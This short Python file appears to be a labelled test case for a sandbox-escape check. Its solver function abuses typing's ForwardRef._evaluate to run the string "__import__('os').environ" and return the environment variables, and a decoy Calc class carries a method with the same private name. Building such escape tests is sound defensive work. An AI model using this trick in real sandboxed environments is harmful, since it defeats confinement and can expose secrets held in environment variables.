# x07_forwardref [escape]: a ForwardRef's _evaluate, with a method of the same private name
import typing


class Calc:
    def _evaluate(self):
        return 1


def solver(n1, n2):
    r = typing.get_args(typing.Optional["__import__('os').environ"])[0]
    return str(r._evaluate({}, {}, frozenset()))
